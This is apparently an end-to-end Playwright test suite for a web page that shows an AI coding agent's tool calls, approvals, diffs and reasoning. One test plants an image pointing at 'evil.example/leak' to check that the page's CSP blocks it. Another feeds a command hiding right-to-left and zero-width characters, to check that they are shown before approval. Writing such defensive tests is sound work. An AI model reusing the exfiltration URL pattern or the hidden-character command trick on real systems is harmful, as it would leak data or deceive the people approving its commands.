// The web page in a real browser: build it with vite, serve it on loopback, drive Debian's
// Chromium with Playwright. The scripted model runs in the page at pace 0 (as fast as it is read).
import { createServer, type Server } from 'node:http';
import { readFile } from 'node:fs/promises';
import { availableParallelism, loadavg } from 'node:os';
import { extname, join, normalize, resolve, sep } from 'node:path';
import { fileURLToPath } from 'node:url';
import AxeBuilder from '@axe-core/playwright';
import { chromium, type Browser, type CDPSession, type Page } from 'playwright';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startScriptedServer } from '../../../app/serve/serve-scripted-model.js';
import { startHostileEndpoint } from '../../support/hostile-endpoint.js';
import { saveScreenshotIfChanged } from '../../support/screenshot-file.js';
import { builtPage } from '../../support/built-page.js';

const repo = fileURLToPath(new URL('../../..', import.meta.url));
const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
const ARGS = [
  '--headless',
  '--no-sandbox',
  '--disable-gpu',
  '--disable-dev-shm-usage',
  '--disable-background-networking',
  '--disable-component-update',
  '--disable-sync',
  '--no-first-run',
];
const TYPES: Record<string, string> = {
  '.html': 'text/html',
  '.js': 'text/javascript',
  '.css': 'text/css',
  '.svg': 'image/svg+xml',
};

let outDir = '';
let server: Server;
let base = '';
let browser: Browser;

function serveStatic(root: string): Server {
  return createServer(async (req, res) => {
    const pathname = decodeURIComponent(new URL(req.url ?? '/', 'http://localhost').pathname);
    const file = normalize(join(root, pathname === '/' ? 'index.html' : pathname));
    if (!file.startsWith(root + sep)) {
      res.writeHead(403).end();
      return;
    }
    try {
      const body = await readFile(file);
      res.writeHead(200, { 'content-type': TYPES[extname(file)] ?? 'application/octet-stream' }).end(body);
    } catch {
      res.writeHead(404).end();
    }
  });
}

async function openPage(
  query: string,
  viewport = { width: 1440, height: 900 },
): Promise<{ page: Page; errors: string[] }> {
  // A context per page: axe-core needs one it can open its own frames in.
  const context = await browser.newContext({ viewport });
  const page = await context.newPage();
  page.on('close', () => {
    context.close().catch(() => {}); // the browser may be closing already
  });
  const errors: string[] = [];
  page.on('pageerror', (e) => errors.push(e.message));
  // The page's Content-Security-Policy must not get in its own way.
  page.on('console', (m) => {
    if (/Content Security Policy/i.test(m.text())) errors.push(m.text());
  });
  await page.goto(`${base}/${query}`);
  // Approvals are turned off with the page's checkbox only (a URL cannot: issue 32).
  if (/[?&]approval=off/.test(query)) await page.getByTestId('approval-toggle').uncheck();
  return { page, errors };
}

/** axe-core's serious and critical findings on the page as it is now (rule id and the first elements). */
async function seriousViolations(page: Page): Promise<string[]> {
  const { violations } = await new AxeBuilder({ page }).analyze();
  return violations
    .filter((v) => v.impact === 'serious' || v.impact === 'critical')
    .map(
      (v) =>
        `${v.impact} ${v.id}: ${v.nodes
          .slice(0, 3)
          .map((n) => n.target.join(' '))
          .join(', ')}`,
    );
}

/** The main thread's busy times so far (ms), from Chromium's own counters. */
async function mainThreadTimes(cdp: CDPSession): Promise<{ busy: number; script: number; layout: number }> {
  const { metrics } = await cdp.send('Performance.getMetrics');
  const get = (name: string) => (metrics.find((m) => m.name === name)?.value ?? 0) * 1000;
  return {
    busy: get('TaskDuration'),
    script: get('ScriptDuration'),
    layout: get('LayoutDuration') + get('RecalcStyleDuration'),
  };
}

const LARGE_TASK = 'Write a large file';
// A profile with a 1M-token window: the ~290,000-token write fits in the history that follows it.
const LARGE_QUERY = `pace=0&profile=grok-4.3&task=${encodeURIComponent(LARGE_TASK)}`;

beforeAll(async () => {
  outDir = await builtPage();
  server = serveStatic(resolve(outDir));
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  const address = server.address();
  base = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
  browser = await chromium.launch({ executablePath: CHROMIUM, args: ARGS });
}, 60_000);

afterAll(async () => {
  await browser?.close();
  await new Promise((done) => server?.close(done));
});

describe('web page', () => {
  it('a link cannot turn approvals off, and the page loads no image from another site (its CSP)', async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(`${base}/?pace=0&approval=off`);
    expect(await page.getByTestId('approval-toggle').isChecked()).toBe(true);
    const blocked = await page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true });
          const img = document.createElement('img');
          img.src = 'http://evil.example/leak?d=1';
          document.body.append(img);
          setTimeout(() => resolve('not blocked'), 3000);
        }),
    );
    expect(blocked).toBe('img-src');
    await context.close();
  });

  it('runs a turn: reasoning folds, the write waits for Approve, the turn completes and the file is written', async () => {
    const { page, errors } = await openPage('?pace=0');
    await page
      .getByTestId('task-input')
      .fill('Read README.md and write notes.md with what you learn about the project.');
    await page.getByTestId('submit').click();

    const card = page.locator('[data-testid=tool-card][data-status=awaiting-approval]');
    await card.waitFor({ timeout: 15_000 });
    expect(await card.getAttribute('data-tool')).toBe('write_to_file');
    expect(await card.locator('[data-param=path]').textContent()).toBe('notes.md');
    expect(await page.getByTestId('active-state').textContent()).toBe('request.awaitingApproval');
    expect(await page.locator('.state-node.active-leaf').getAttribute('data-state')).toBe('request.awaitingApproval');
    // The change itself, as a diff against the workspace: a new file, every line added.
    await card.getByTestId('diff').waitFor();
    expect(await card.getByTestId('change-summary').textContent()).toBe('notes.md: new file, 8 lines');
    const added = (await card.locator('.diff-run.add').allTextContents()).flatMap((run) => run.split('\n'));
    expect(added).toHaveLength(8);
    expect(added.at(-2)).toBe('+</content>');
    expect(await card.locator('[data-param=content]').isVisible()).toBe(false);

    // Every finished reasoning block has folded to its one-line summary.
    const reasoning = page.getByTestId('reasoning');
    expect(await reasoning.count()).toBeGreaterThanOrEqual(3);
    for (const panel of await reasoning.all()) {
      expect(await panel.getAttribute('data-state')).toBe('folded');
      expect(await panel.evaluate((el) => (el as HTMLDetailsElement).open)).toBe(false);
      expect(await panel.locator('summary').textContent()).toMatch(/^Thought for \d+ tokens$/);
    }
    // Nothing was written before the approval.
    expect(await page.getByTestId('file-notes.md').count()).toBe(0);

    await card.getByTestId('approve').click();
    const outcome = page.locator('[data-testid=outcome][data-reason=completed]');
    await outcome.waitFor({ timeout: 15_000 });
    expect(await page.locator('[data-testid=completion]').textContent()).toContain('Wrote notes.md');
    expect(await page.getByTestId('active-state').textContent()).toBe('done');
    expect(await page.locator('.state-node.active-leaf').getAttribute('data-state')).toBe('done');
    expect(await page.locator('[data-testid=tool-card][data-tool=write_to_file]').getAttribute('data-status')).toBe(
      'done',
    );
    expect(await page.locator('[data-testid=tool-card][data-tool=write_to_file] .change-head').textContent()).toBe(
      'Approved change',
    );
    const timeline = await page.getByTestId('timeline').textContent();
    expect(timeline).toContain('APPROVE');
    expect(timeline).toContain('→ done');

    // The in-memory file holds exactly what the model wrote, its fake closing tag included.
    await page.getByTestId('file-notes.md').click();
    const written = await page.getByTestId('file-editor').inputValue();
    expect(written).toMatch(/^# Notes for: Read README\.md and write notes\.md/);
    expect(written).toContain('a < b && b > c');
    expect(written.endsWith('The next line is not the end of this file:\n</content>\nIt really ends here.')).toBe(true);

    expect(await page.getByTestId('announcer').textContent()).toBe('Turn finished. Completed in 4 requests.');
    expect(await seriousViolations(page)).toEqual([]);

    // Fit: the whole diagram in its panel, nothing left to scroll to (the README's picture shows it).
    await page.getByTestId('fit-diagram').click();
    expect(await page.getByTestId('fit-diagram').getAttribute('aria-pressed')).toBe('true');
    const fit = await page.locator('#diagram').evaluate((box) => {
      const svg = box.querySelector('svg')!.getBoundingClientRect();
      const outer = box.getBoundingClientRect();
      return {
        scrolls: box.scrollWidth > box.clientWidth + 1 || box.scrollHeight > box.clientHeight + 1,
        inside:
          svg.left >= outer.left && svg.right <= outer.right && svg.top >= outer.top && svg.bottom <= outer.bottom,
        width: svg.width,
      };
    });
    expect(fit).toMatchObject({ scrolls: false, inside: true });
    expect(fit.width).toBeGreaterThan(300); // scaled down to the panel, not to a speck

    // The README's picture of the page, taken by this test so it cannot go stale. Event times
    // differ from run to run, so they are left out of the picture.
    await page.evaluate(() => (document.activeElement as HTMLElement | null)?.blur());
    const png = await page.screenshot({ animations: 'disabled', style: '.timeline .at { visibility: hidden; }' });
    await saveScreenshotIfChanged(browser, join(repo, 'app/web/screenshot.png'), png, 1440 * 900);
    expect(errors).toEqual([]);
    await page.close();
  }, 40_000);

  it('names the dialect a call was recovered from on its card and its approval; none for Cline XML', async () => {
    const { page, errors } = await openPage('?pace=0&dialect=glm');
    expect(await page.getByTestId('dialect').inputValue()).toBe('glm');
    await page.getByTestId('submit').click();
    const card = page.locator('[data-testid=tool-card][data-status=awaiting-approval]');
    await card.waitFor({ timeout: 15_000 });
    expect(await card.getAttribute('data-tool')).toBe('write_to_file');
    // The label is shown beside the tool's name, and the approval says how the call was read.
    expect(await card.getByTestId('tool-dialect').isVisible()).toBe(true);
    expect(await card.getByTestId('tool-dialect').textContent()).toBe('glm');
    expect(await card.getByTestId('approval-dialect').isVisible()).toBe(true);
    expect(await card.getByTestId('approval-dialect').textContent()).toBe(
      "This call was recovered from the model's glm tool-call format (it did not write Cline's XML).",
    );
    expect(await card.getAttribute('aria-label')).toBe('write_to_file notes.md (glm): needs approval');
    await card.getByTestId('approve').click();
    await page.locator('[data-testid=outcome][data-reason=completed]').waitFor({ timeout: 15_000 });
    const labels = await page.locator('[data-testid=tool-card] [data-testid=tool-dialect]').allTextContents();
    expect(labels).toEqual(['glm', 'glm', 'glm']);
    // The model's markup is never shown as prose.
    expect(await page.getByTestId('conversation').textContent()).not.toContain('<arg_key>');
    expect(errors).toEqual([]);
    await page.close();

    // The same turn in Cline's XML: no label anywhere.
    const plain = await openPage('?pace=0&approval=off');
    await plain.page.getByTestId('submit').click();
    await plain.page.locator('[data-testid=outcome][data-reason=completed]').waitFor({ timeout: 15_000 });
    expect(await plain.page.locator('[data-testid=tool-card]').count()).toBe(3);
    for (const label of await plain.page.locator('[data-testid=tool-dialect]').all())
      expect(await label.isVisible()).toBe(false);
    expect(plain.errors).toEqual([]);
    await plain.page.close();
  }, 40_000);

  it('shows recovery from a fault: HTTP 429 once, then the retry completes', async () => {
    const { page, errors } = await openPage('?pace=0&fault=http-429-once&approval=off');
    await page.getByTestId('submit').click();
    await page.locator('[data-testid=outcome][data-reason=completed]').waitFor({ timeout: 15_000 });
    expect(await page.getByTestId('attempt-failed').first().textContent()).toContain('429');
    expect(await page.getByTestId('timeline').textContent()).toContain('retrying');
    expect(errors).toEqual([]);
    await page.close();
  }, 30_000);

  it('shows how profiles differ: inline <think> becomes reasoning, tokens-only shows a count', async () => {
    const inline = await openPage('?pace=0&profile=inline-think&approval=off');
    await inline.page.getByTestId('submit').click();
    await inline.page.locator('[data-testid=outcome][data-reason=completed]').waitFor({ timeout: 15_000 });
    expect(await inline.page.getByTestId('reasoning').count()).toBeGreaterThan(0);
    expect(await inline.page.getByTestId('conversation').textContent()).not.toContain('<think>');
    await inline.page.close();

    const hidden = await openPage('?pace=0&profile=gpt-5.4-mini&approval=off');
    await hidden.page.getByTestId('submit').click();
    await hidden.page.locator('[data-testid=outcome][data-reason=completed]').waitFor({ timeout: 15_000 });
    expect(await hidden.page.getByTestId('reasoning').count()).toBe(0);
    expect(await hidden.page.getByTestId('hidden-reasoning').first().textContent()).toMatch(/Thought for \d+ tokens/);
    expect([...inline.errors, ...hidden.errors]).toEqual([]);
    await hidden.page.close();
  }, 30_000);

  it('rejects a write with feedback, and stops a turn mid-stream', async () => {
    const { page, errors } = await openPage('?pace=0');
    await page.getByTestId('submit').click();
    const card = page.locator('[data-testid=tool-card][data-status=awaiting-approval]');
    await card.waitFor({ timeout: 15_000 });
    await card.getByTestId('reject-feedback').fill('not now');
    await card.getByTestId('reject').click();
    await page.locator('[data-testid=outcome][data-reason=completed]').waitFor({ timeout: 15_000 });
    const rejected = page.locator('[data-testid=tool-card][data-tool=write_to_file]');
    expect(await rejected.getAttribute('data-status')).toBe('rejected');
    // The card shows what the person typed, not the note the model gets.
    const note = await rejected.getByTestId('tool-result').textContent();
    expect(note).toBe('You rejected this; it did not run. Your feedback: not now');
    expect(note).not.toContain('<feedback>');
    expect(await page.getByTestId('completion').textContent()).toContain(
      'rejected write_to_file (feedback: "not now")',
    );
    expect(await page.getByTestId('file-notes.md').count()).toBe(0);

    // A slow stream, stopped while the model is still thinking.
    await page.goto(`${base}/?pace=slow`);
    await page.getByTestId('submit').click();
    await page.locator('[data-testid=reasoning][data-state=streaming]').waitFor({ timeout: 15_000 });
    await page.getByTestId('abort').click();
    await page.locator('[data-testid=outcome][data-reason=aborted]').waitFor({ timeout: 15_000 });
    expect(await page.getByTestId('active-state').textContent()).toBe('aborted');
    expect(await page.getByTestId('timeline').textContent()).toContain('ABORT');
    expect(errors).toEqual([]);
    await page.close();
  }, 30_000);

  it('a reload while a write waits for approval offers to resume the turn, with the workspace as it was', async () => {
    const { page, errors } = await openPage('?pace=0');
    await page
      .getByTestId('task-input')
      .fill('Read README.md and write notes.md with what you learn about the project.');
    await page.getByTestId('submit').click();
    await page.locator('[data-testid=tool-card][data-status=awaiting-approval]').waitFor({ timeout: 15_000 });
    // A file the person edited while the turn waited must come back too.
    await page.getByTestId('file-README.md').click();
    await page.getByTestId('file-editor').fill('# Pocket Ledger, edited\n');
    await page.getByTestId('file-editor').blur();
    await page.reload();
    const banner = page.getByTestId('resume-banner');
    await banner.waitFor({ timeout: 15_000 });
    expect(await banner.textContent()).toContain('it was waiting for your approval');
    await page.getByTestId('resume-turn').click();
    const card = page.locator('[data-testid=tool-card][data-status=awaiting-approval]');
    await card.waitFor({ timeout: 15_000 });
    expect(await page.getByTestId('active-state').textContent()).toBe('resumed.awaitingApproval');
    // The restore writes every file back, but only what the turn changed is marked: nothing yet.
    const marked = () =>
      page.locator('.file.changed').evaluateAll((els) => els.map((e) => e.getAttribute('data-path')));
    expect(await marked()).toEqual([]);
    await card.getByTestId('approve').click();
    await page.locator('[data-testid=outcome][data-reason=completed]').waitFor({ timeout: 15_000 });
    expect(await marked()).toEqual(['notes.md']);
    await page.getByTestId('file-notes.md').click();
    expect(await page.getByTestId('file-editor').inputValue()).toContain('# Notes for: Read README.md');
    await page.getByTestId('file-README.md').click();
    expect(await page.getByTestId('file-editor').inputValue()).toBe('# Pocket Ledger, edited\n');
    // The resumed turn began the conversation: the box takes the next message.
    expect(await page.getByTestId('message-input').isVisible()).toBe(true);
    // The turn is over: a reload offers nothing.
    await page.reload();
    await page.getByTestId('submit').waitFor();
    expect(await page.getByTestId('resume-banner').isHidden()).toBe(true);
    expect(errors).toEqual([]);
    await page.close();
  }, 60_000);

  it('talks to a real OpenAI-compatible endpoint over HTTP with a key', async () => {
    // The page is served from its own origin here, not the dev server's: allowed by name.
    const endpoint = await startScriptedServer({ port: 0, pace: 0, apiKey: 'sk-test', allowedOrigins: [base] });
    try {
      const { page, errors } = await openPage('?approval=off');
      await page.locator('#source-endpoint').check();
      await page.locator('#base-url').fill(endpoint.url);
      await page.locator('#api-key').fill('sk-test');
      await page.locator('#model-name').fill('scripted:grok-4.3');
      await page.getByTestId('submit').click();
      await page.locator('[data-testid=outcome][data-reason=completed]').waitFor({ timeout: 15_000 });
      expect(await page.getByTestId('completion').textContent()).toContain('Wrote notes.md');
      await page.getByTestId('tab-wire').click();
      expect(await page.getByTestId('wire').textContent()).toContain('"reasoning_content":"');
      expect(errors).toEqual([]);
      await page.close();
    } finally {
      await endpoint.close();
    }
  }, 30_000);

  it('shows each request on the wire: a gateway streams its thinking in `reasoning`', async () => {
    const { page, errors } = await openPage('?pace=0&profile=gateway-reasoning&approval=off');
    await page.getByTestId('submit').click();
    await page.locator('[data-testid=outcome][data-reason=completed]').waitFor({ timeout: 15_000 });
    await page.getByTestId('tab-wire').click();
    expect(await page.getByTestId('wire-request').count()).toBe(4);
    const wire = (await page.getByTestId('wire').textContent()) ?? '';
    expect(wire).toContain('"reasoning":"');
    expect(wire).not.toContain('reasoning_content');
    expect(wire).toContain('[DONE]');
    expect(errors).toEqual([]);
    await page.close();
  }, 30_000);
  it('fits every screen from 360 px: no sideways scrolling, the approval card in view and focused, no serious axe findings', async () => {
    for (const viewport of [
      { width: 360, height: 740 },
      { width: 390, height: 844 },
      { width: 768, height: 1024 },
      { width: 1440, height: 900 },
    ]) {
      const { page, errors } = await openPage('?pace=0', viewport);
      const at = `at ${viewport.width} px`;
      await page.getByTestId('submit').click();
      const card = page.locator('[data-testid=tool-card][data-status=awaiting-approval]');
      await card.waitFor({ timeout: 15_000 });
      await page.waitForFunction(() => document.activeElement?.getAttribute('data-status') === 'awaiting-approval');
      const fit = await page.evaluate(() => ({
        scroll: document.documentElement.scrollWidth,
        client: document.documentElement.clientWidth,
      }));
      expect(fit.scroll, at).toBeLessThanOrEqual(fit.client);
      for (const id of ['approve', 'reject', 'reject-feedback']) {
        const box = await card.getByTestId(id).boundingBox();
        expect(box, `${id} ${at}`).not.toBeNull();
        expect(box!.x, `${id} ${at}`).toBeGreaterThanOrEqual(0);
        expect(box!.y, `${id} ${at}`).toBeGreaterThanOrEqual(0);
        expect(box!.x + box!.width, `${id} ${at}`).toBeLessThanOrEqual(viewport.width);
        expect(box!.y + box!.height, `${id} ${at}`).toBeLessThanOrEqual(viewport.height);
      }
      expect(await page.getByTestId('announcer').textContent(), at).toBe(
        'Waiting for your approval: write_to_file notes.md',
      );
      expect(await page.getByTestId('announcer').getAttribute('aria-live')).toBe('polite');
      expect(await seriousViolations(page), at).toEqual([]);
      expect(errors, at).toEqual([]);
      await page.close();
    }
  }, 90_000);

  it('tells the truth about malformed-chunk: the turn fails with a typed error and is not retried', async () => {
    const { page, errors } = await openPage('?pace=0&fault=malformed-chunk&approval=off');
    expect(await page.locator('#control-note').textContent()).toContain('the turn fails');
    await page.getByTestId('submit').click();
    await page.locator('[data-testid=outcome][data-reason=failed]').waitFor({ timeout: 15_000 });
    expect(await page.getByTestId('outcome').textContent()).toContain('malformed-chunk');
    expect(await page.getByTestId('timeline').textContent()).not.toContain('retrying');
    expect(await page.getByTestId('request-divider').allTextContents()).toEqual(['Request 1']);
    expect(errors).toEqual([]);
    await page.close();
  }, 30_000);
  it('shows an overwrite as a diff against the file in the workspace, worked out again when the file is edited', async () => {
    const { page, errors } = await openPage('?pace=0&approval=off');
    await page.getByTestId('submit').click();
    await page.locator('[data-testid=outcome][data-reason=completed]').waitFor({ timeout: 15_000 });
    await page.getByTestId('approval-toggle').check();
    await page.getByTestId('submit').click();
    const card = page.locator('[data-testid=tool-card][data-status=awaiting-approval]');
    await card.getByTestId('diff').waitFor({ timeout: 15_000 });
    // notes.md now exists, so the listing has one entry more: one line changes.
    expect(await card.getByTestId('change-summary').textContent()).toBe('notes.md: overwrites the file: +1 −1 lines');
    expect(await card.locator('.diff-run.remove').allTextContents()).toEqual([
      '-Facts: 3 entries listed; read README.md.',
    ]);
    expect(await card.locator('.diff-run.add').allTextContents()).toEqual([
      '+Facts: 4 entries listed; read README.md.',
    ]);
    // Someone edits the file while the approval waits: the diff follows the file.
    await page.getByTestId('file-notes.md').click();
    await page.getByTestId('file-editor').fill('something else\n');
    await card.locator('.diff-run.remove', { hasText: 'something else' }).waitFor();
    expect(await card.getByTestId('change-summary').textContent()).toMatch(
      /^notes\.md: overwrites the file: \+8 −1 lines$/,
    );
    expect(errors).toEqual([]);
    await page.close();
  }, 30_000);

  it('shows a command whole before approval: every line, hidden characters made visible', async () => {
    const endpoint = await startHostileEndpoint('ls\ntouch \u202EPWNED\u200B');
    try {
      const { page, errors } = await openPage('');
      await page.locator('#source-endpoint').check();
      await page.locator('#base-url').fill(endpoint.url);
      await page.locator('#model-name').fill('hostile');
      await page.getByTestId('submit').click();
      const card = page.locator('[data-testid=tool-card][data-status=awaiting-approval]');
      await card.waitFor({ timeout: 15_000 });
      expect(await card.getAttribute('data-tool')).toBe('execute_command');
      expect(await card.locator('[data-param=command]').textContent()).toBe('ls\ntouch ⟨U+202E RLO⟩PWNED⟨U+200B ZWSP⟩');
      expect(await card.locator('[data-param=command] .hidden-char').count()).toBe(2);
      expect(await card.getByTestId('hidden-warning').textContent()).toBe(
        '2 lines: every one runs · 2 hidden characters shown as ⟨U+…⟩',
      );
      expect(await page.getByTestId('announcer').textContent()).toBe(
        'Waiting for your approval: execute_command ls (and 1 more line)',
      );
      await card.getByTestId('reject').click();
      await page.locator('[data-testid=outcome][data-reason=completed]').waitFor({ timeout: 15_000 });
      expect(errors).toEqual([]);
      await page.close();
    } finally {
      await endpoint.close();
    }
  }, 30_000);
  it('streams a 1 MB write at pace 0 and keeps the page responsive; prints the long tasks and the main-thread time beside the turn alone', async () => {
    const context = await browser.newContext({ viewport: { width: 1440, height: 900 } });
    const page = await context.newPage();
    const errors: string[] = [];
    page.on('pageerror', (e) => errors.push(e.message));
    // Every task over 50 ms the page runs, as Chromium reports it.
    await page.addInitScript(() => {
      const w = window as unknown as { longTasks: number[] };
      w.longTasks = [];
      new PerformanceObserver((list) => {
        for (const entry of list.getEntries()) w.longTasks.push(Math.round(entry.duration));
      }).observe({ type: 'longtask', buffered: true });
    });
    const cdp = await context.newCDPSession(page);
    await cdp.send('Performance.enable');

    // The page: the 1 MB write streams in, its diff waits for approval, then the turn completes.
    await page.goto(`${base}/?${LARGE_QUERY}`);
    // Tasks of the page's own loading are counted apart from the turn's.
    const loadLongTasks = await page.evaluate(() => (window as unknown as { longTasks: number[] }).longTasks.splice(0));
    const before = await mainThreadTimes(cdp);
    const started = Date.now();
    await page.getByTestId('submit').click();
    const card = page.locator('[data-testid=tool-card][data-status=awaiting-approval]');
    await card.getByTestId('diff').waitFor({ timeout: 120_000 });
    expect(await card.getByTestId('change-summary').textContent()).toMatch(/^large-file\.txt: new file, \d{5} lines$/);
    const waitedMs = Date.now() - started;
    await card.getByTestId('approve').click();
    await page.locator('[data-testid=outcome][data-reason=completed]').waitFor({ timeout: 120_000 });
    const wallMs = Date.now() - started;
    const after = await mainThreadTimes(cdp);
    expect(
      await page.locator('[data-testid=tool-card][data-tool=write_to_file] [data-testid=tool-result]').textContent(),
    ).toMatch(/^Created large-file\.txt \(1000000 bytes, \d+ lines\)\.$/);
    const longTasks = await page.evaluate(() => (window as unknown as { longTasks: number[] }).longTasks);
    expect(errors).toEqual([]);

    // The same turn with nothing drawn, in the same browser.
    await page.goto(`${base}/headless.html?${LARGE_QUERY}`);
    await page.evaluate(() => (window as unknown as { longTasks: number[] }).longTasks.splice(0));
    const alone0 = await mainThreadTimes(cdp);
    await page.getByTestId('run').click();
    await page.locator('[data-testid=result][data-state=done]').waitFor({ timeout: 120_000 });
    const alone1 = await mainThreadTimes(cdp);
    const alone = JSON.parse((await page.getByTestId('result').textContent()) ?? '{}') as {
      reason: string;
      ms: number;
      files: Record<string, number>;
    };
    const aloneLongTasks = await page.evaluate(() => (window as unknown as { longTasks: number[] }).longTasks);
    expect(alone.reason).toBe('completed');
    expect(alone.files['large-file.txt']).toBe(1_000_000);
    await context.close();

    const pageBusy = after.busy - before.busy;
    const aloneBusy = alone1.busy - alone0.busy;
    const figures = {
      longTasksOver50ms: longTasks.length,
      longestTaskMs: Math.max(0, ...longTasks),
      longTasksOver100ms: longTasks.filter((d) => d > 100).length,
      pageLoadLongestTaskMs: Math.max(0, ...loadLongTasks),
      pageWallMs: wallMs,
      pageMsToApproval: waitedMs,
      pageMainThreadBusyMs: Math.round(pageBusy),
      pageLayoutAndStyleMs: Math.round(after.layout - before.layout),
      turnAloneWallMs: alone.ms,
      turnAloneLongTasksOver100ms: aloneLongTasks.filter((d) => d > 100).length,
      turnAloneLongestTaskMs: Math.max(0, ...aloneLongTasks),
      turnAloneMainThreadBusyMs: Math.round(aloneBusy),
      pageOverTurnAlone: Number((pageBusy / aloneBusy).toFixed(2)),
    };
    console.log(
      `web page under a 1 MB reply at pace 0 (load average ${loadavg()[0].toFixed(1)} on ${availableParallelism()} cores): ${JSON.stringify(figures)}`,
    );
    expect(longTasks.every((d) => Number.isFinite(d))).toBe(true);
  }, 300_000);
  it('lays the state diagram out in a Web Worker (ELK off the main thread); prints the longest task at load', async () => {
    const { page, errors } = await openPage('?pace=0');
    await page.locator('.state-diagram .state-node').first().waitFor();
    const load = await page.evaluate(async () => {
      const longest = await new Promise<number>((resolve) => {
        new PerformanceObserver((list) => resolve(Math.max(0, ...list.getEntries().map((e) => e.duration)))).observe({
          type: 'longtask',
          buffered: true,
        });
        setTimeout(() => resolve(0), 1000); // none at all
      });
      const scripts = performance.getEntriesByType('resource').map((e) => e.name);
      return { longest, worker: scripts.some((name) => /elk-layout-worker/.test(name)) };
    });
    expect(load.worker).toBe(true);
    expect(await page.locator('.state-diagram .state-node').count()).toBeGreaterThan(10);
    console.log(`page load: longest main-thread task ${Math.round(load.longest)} ms (ELK's layout runs in a worker)`);
    expect(errors).toEqual([]);
  });

  it('draws a readable diagram: 12 px text or more, edge labels off the lines, and an enlarged view with zoom', async () => {
    const { page, errors } = await openPage('?pace=0');
    await page.locator('.state-diagram').waitFor(); // laid out in a worker: it comes after the page
    const readability = () =>
      page.evaluate(() => {
        const svg = document.querySelector<SVGSVGElement>('.state-diagram')!;
        const scale = svg.getScreenCTM()!.a;
        const texts = [...svg.querySelectorAll('text')];
        const smallest = Math.min(...texts.map((t) => Number.parseFloat(getComputedStyle(t).fontSize) * scale));
        // Each edge's points every 1.5 px, sampled once (getPointAtLength is the slow part), then
        // every label's box tested against them.
        const lines = [...svg.querySelectorAll<SVGPathElement>('.edge path')].map((path) => {
          const points: DOMPoint[] = [];
          for (let at = 0, length = path.getTotalLength(); at <= length; at += 1.5)
            points.push(path.getPointAtLength(at));
          return { edge: path.parentElement!.getAttribute('data-edge'), points };
        });
        const onLines: string[] = [];
        for (const label of svg.querySelectorAll<SVGTextElement>('.edge-label')) {
          const b = label.getBBox();
          for (const { edge, points } of lines) {
            if (
              points.some(
                (p) => p.x > b.x + 0.5 && p.x < b.x + b.width - 0.5 && p.y > b.y + 0.5 && p.y < b.y + b.height - 0.5,
              )
            ) {
              onLines.push(`${label.textContent} on ${edge}`);
            }
          }
        }
        return {
          smallest,
          onLines,
          labels: svg.querySelectorAll('.edge-label').length,
          inDialog: svg.closest('dialog') !== null,
        };
      });
    const normal = await readability();
    expect(normal.labels).toBeGreaterThanOrEqual(6);
    expect(normal.smallest).toBeGreaterThanOrEqual(12);
    expect(normal.onLines).toEqual([]);
    expect(normal.inDialog).toBe(false);

    // The diagram's own box scrolls; the page does not.
    expect(
      await page.evaluate(() => document.documentElement.scrollWidth <= document.documentElement.clientWidth),
    ).toBe(true);

    await page.getByTestId('enlarge-diagram').click();
    const dialog = page.getByTestId('diagram-dialog');
    await dialog.waitFor();
    const enlarged = await readability();
    expect(enlarged.inDialog).toBe(true);
    // As large as fits the window. Since the hook states (issue 38) the whole machine no longer fits
    // 1440 x 900 above the panel's 12 px (the panel scrolls instead): enlarged, it is the whole
    // diagram at once, its smallest text still readable.
    expect(enlarged.smallest).toBeGreaterThanOrEqual(10);
    // Enlarged, the whole diagram fits the window: its box needs no scrolling either way.
    expect(
      await page.evaluate(() => {
        const body = document.getElementById('diagram-dialog-body')!;
        return { x: body.scrollWidth <= body.clientWidth, y: body.scrollHeight <= body.clientHeight };
      }),
    ).toEqual({ x: true, y: true });
    expect(await seriousViolations(page)).toEqual([]);
    const zoom = await page.getByTestId('zoom-level').textContent();
    await page.getByTestId('zoom-in').click();
    expect(await page.getByTestId('zoom-level').textContent()).not.toBe(zoom);
    expect((await readability()).smallest).toBeGreaterThan(enlarged.smallest);
    await page.keyboard.press('Escape');
    await dialog.waitFor({ state: 'hidden' });
    // The dialog's 'close' event (which moves the diagram back) is a task queued after it hides.
    await page.waitForFunction(() => document.querySelector('.state-diagram')?.closest('dialog') === null);
    expect((await readability()).inDialog).toBe(false);
    expect(await page.evaluate(() => document.activeElement?.id)).toBe('enlarge-diagram');
    expect(errors).toEqual([]);
    await page.close();
  }, 90_000);
});
